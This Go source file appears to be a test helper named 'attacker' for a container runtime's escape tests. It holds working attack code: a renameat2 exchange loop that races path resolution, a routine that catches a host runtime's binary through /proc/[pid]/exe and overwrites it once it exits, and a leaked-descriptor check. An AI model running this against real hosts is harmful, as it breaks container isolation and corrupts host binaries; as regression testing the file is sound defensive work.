// Command attacker is the other side in tests/escape.bats.
//
//	attacker swap A B      exchange two names, again and again, until killed
//	attacker overwrite     in a guest: take hold of the program of every
//	                       process that is not the guest's own, and write to it
//	attacker descriptors   list what this process was started with
//
// It prints "ready" once it is at work. As nothing but the standard library is
// used, it builds without the module's dependencies and runs in any root file
// system.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	var err error
	switch {
	case len(os.Args) == 4 && os.Args[1] == "swap":
		err = swap(os.Args[2], os.Args[3])
	case len(os.Args) == 2 && os.Args[1] == "overwrite":
		err = overwrite()
	case len(os.Args) == 2 && os.Args[1] == "descriptors":
		err = descriptors()
	default:
		fmt.Fprintln(os.Stderr, "usage: attacker swap A B | overwrite | descriptors")
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(1)
	}
}

const (
	sysRenameat2   = 316 // amd64
	renameExchange = 2
	atFDCWD        = -100
)

// swap exchanges both names at once (RENAME_EXCHANGE, rename(2)), so that each
// exists at any moment and is now one file and now the other.
func swap(a, b string) error {
	from, err := syscall.BytePtrFromString(a)
	if err != nil {
		return err
	}
	to, err := syscall.BytePtrFromString(b)
	if err != nil {
		return err
	}
	fmt.Println("ready")
	dir := atFDCWD
	for {
		_, _, errno := syscall.Syscall6(sysRenameat2, uintptr(dir), uintptr(unsafe.Pointer(from)), uintptr(dir), uintptr(unsafe.Pointer(to)), renameExchange, 0)
		// Busy while something is mounted there.
		if errno != 0 && errno != syscall.EBUSY && errno != syscall.ENOENT {
			return errno
		}
	}
}

// big tells a container runtime from what else runs in a small guest.
const big = 6 << 20

// overwrite opens the programs of foreign processes while they run, and writes
// to them when they have ended: until then the kernel says ETXTBSY.
func overwrite() error {
	self, err := os.Stat("/proc/self/exe")
	if err != nil {
		return err
	}
	fmt.Println("ready")
	seen := map[string]bool{}
	for {
		dirs, err := filepath.Glob("/proc/[0-9]*")
		if err != nil {
			return err
		}
		for _, dir := range dirs {
			f, err := os.Open(dir + "/exe")
			if err != nil {
				continue
			}
			st, err := f.Stat()
			if err != nil || os.SameFile(st, self) || st.Size() < big || seen[dir] {
				f.Close()
				continue
			}
			seen[dir] = true
			name, _ := os.Readlink(dir + "/exe")
			fmt.Println("caught", dir, name)
			go write(f)
		}
	}
}

func write(f *os.File) {
	defer f.Close()
	path := "/proc/self/fd/" + strconv.Itoa(int(f.Fd()))
	for range 4000 {
		w, err := os.OpenFile(path, os.O_WRONLY, 0)
		if errors.Is(err, syscall.ETXTBSY) {
			time.Sleep(time.Millisecond)
			continue
		}
		if err == nil {
			_, err = w.WriteString("overwritten")
			w.Close()
		}
		if err == nil {
			fmt.Println("OVERWRITTEN")
			return
		}
		fmt.Println("refused:", err)
		return
	}
	fmt.Println("refused: busy")
}

// descriptors prints number and target of each descriptor above stderr that the
// process has not opened itself.
func descriptors() error {
	fmt.Println("ready")
	// What Go's runtime opens comes after the first free number.
	for fd := 3; fd < 256; fd++ {
		flags, _, errno := syscall.Syscall(syscall.SYS_FCNTL, uintptr(fd), syscall.F_GETFD, 0)
		if errno != 0 || flags&syscall.FD_CLOEXEC != 0 {
			continue
		}
		target, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if err != nil {
			return err
		}
		fmt.Println(fd, target)
	}
	return nil
}
